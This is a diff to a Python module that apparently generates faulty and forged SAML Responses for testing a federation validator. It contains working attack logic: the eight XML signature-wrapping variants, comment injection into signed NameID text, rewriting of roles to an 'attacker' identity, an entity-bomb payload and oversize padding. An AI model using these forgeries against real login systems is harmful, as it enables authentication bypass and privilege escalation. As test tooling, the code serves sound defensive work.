@@ -20,7 +20,7 @@ _SAML = f"{{{ASSERTION_NAMESPACE}}}"
 _SAMLP = f"{{{PROTOCOL_NAMESPACE}}}"
 _SIGNATURE = f"{{{SIGNATURE_NAMESPACE}}}Signature"
 _STEP = re.compile(r"(\w+)((?:\[\d+\])?)")
-_OVERSIZED_CHARACTERS = 100_001
+_OVERSIZED_BYTES = 75_001  # in base64 the first length above 100,000 characters
 EVIL_NAME = "attacker"
 
 
@@ -40,9 +40,11 @@ def edit(xml: str, faults: Sequence[Fault], *, kind: str) -> str:
 
 
 def _find(root: etree._Element, path: str) -> etree._Element:
-    steps = _STEP.findall(path.removeprefix("/").removeprefix("Response/"))
+    steps = _STEP.findall(path)
+    if steps and steps[0] == ("Response", ""):
+        del steps[0]
     found: Any = root.xpath("." + "".join(f"/*[local-name()='{name}']{index}" for name, index in steps))
-    if not steps or not found:
+    if not found:
         raise FederationError(
             f"the Response has no {path}", expected="a path of local names such as Assertion/Subject/NameID"
         )
@@ -53,14 +55,13 @@ def _find(root: etree._Element, path: str) -> etree._Element:
 def _edit(element: etree._Element, fault: Fault) -> None:
     parent = element.getparent()
     if fault.attribute_name:
-        if fault.operation == "remove":
-            element.attrib.pop(fault.attribute_name, "")
-        else:
-            element.set(fault.attribute_name, fault.values[0])
+        _edit_attribute(element, fault)
     elif fault.operation == "set":
         for child in list(element):
             element.remove(child)
         element.text = fault.values[0]
+    elif fault.operation == "comment":
+        _comment(element, fault)
     elif parent is None:
         raise FederationError("the Response itself cannot be removed or doubled", received=fault.target)
     elif fault.operation == "duplicate":
@@ -69,10 +70,37 @@ def _edit(element: etree._Element, fault: Fault) -> None:
         parent.remove(element)
 
 
+def _edit_attribute(element: etree._Element, fault: Fault) -> None:
+    if fault.operation == "set":
+        element.set(fault.attribute_name, fault.values[0])
+    elif fault.attribute_name in element.attrib:
+        del element.attrib[fault.attribute_name]
+    else:
+        raise FederationError(
+            f"{fault.target} has no {fault.attribute_name}",
+            expected=" or ".join(map(str, element.attrib)) or "an element with attributes",
+            received=fault.attribute_name,
+        )
+
+
+def _comment(element: etree._Element, fault: Fault) -> None:
+    """Puts a comment into the middle of a text: signatures do not cover comments, and careless readers stop there."""
+    text = element.text or ""
+    if "--" in fault.values[0] or fault.values[0].endswith("-"):
+        raise FederationError("a comment holds no -- and ends without -", received=fault.values[0])
+    comment = etree.Comment(fault.values[0])
+    element.text, comment.tail = text[: len(text) // 2], text[len(text) // 2 :]
+    element.insert(0, comment)
+
+
 def wrap(xml: str, variant: str) -> str:
     """Returns a signed Response with a forged assertion wrapped around, before or inside the signed one.
 
-    The eight variants of the SAML Raider tool: 1 and 2 wrap the Response, 3 to 8 the assertion.
+    The eight variants of the SAML Raider tool: 1 and 2 wrap the Response, 3 to 8 the assertion. The latter break the
+    Response's own signature, which an attacker takes away: what is left is a valid signature, of the wrong thing.
+
+    Raises:
+        FederationError: there is no assertion to wrap.
     """
     root = etree.fromstring(xml.encode())
     original = root.find(f"{_SAML}Assertion")
@@ -81,6 +109,9 @@ def wrap(xml: str, variant: str) -> str:
     evil = _evil(original)
     if variant in {"xsw1", "xsw2"}:
         return _text(_wrap_response(root, before=variant == "xsw2"))
+    broken = root.find(_SIGNATURE)
+    if broken is not None:
+        root.remove(broken)
     position = root.index(original)
     if variant == "xsw3":
         root.insert(position, evil)
@@ -147,9 +178,24 @@ def _evil(assertion: etree._Element) -> etree._Element:
     if name_id is not None:
         name_id.text = EVIL_NAME
     for attribute in evil.iter(f"{_SAML}Attribute"):
-        if attribute.get("Name", "").endswith("/RoleSessionName"):
-            attribute[0].text = EVIL_NAME
+        name = attribute.get("Name", "").rpartition("/")[2]
+        for value in attribute:
+            if name == "RoleSessionName":
+                value.text = EVIL_NAME
+            elif name == "Role":
+                value.text = f"{(value.text or '').rpartition('/')[0]}/{EVIL_NAME}"
     return evil
+
+
+def pad(xml: str, signed: str) -> str:
+    """Returns an unsigned Response with so long a comment in its assertion that, signed, it is just too long for AWS.
+
+    Args:
+        xml: The Response with signature templates.
+        signed: The same Response, signed: its length is known only then.
+    """
+    missing = _OVERSIZED_BYTES - len(signed.encode()) - len("<!---->")
+    return xml.replace("</saml2:Assertion>", f"<!--{'p' * missing}--></saml2:Assertion>", 1)
 
 
 def with_sha1(xml: str) -> str:
@@ -171,7 +217,7 @@ def payload(xml: bytes, kind: str) -> str:
         "not-xml": lambda: _encode("this is not XML"),
         "doctype": lambda: _encode(f"<!DOCTYPE Response>{document}"),
         "entity-bomb": lambda: _encode(f"{bomb}]>{document.replace('urn:amazon', '&i;urn:amazon')}"),
-        "oversized": lambda: text + "A" * (_OVERSIZED_CHARACTERS - len(text)),
+        "oversized": lambda: text,
         "empty": lambda: "",
         "html": lambda: _encode("<html><body>Sign in</body></html>"),
         "deflated": lambda: base64.b64encode(zlib.compress(xml)[2:-4]).decode(),
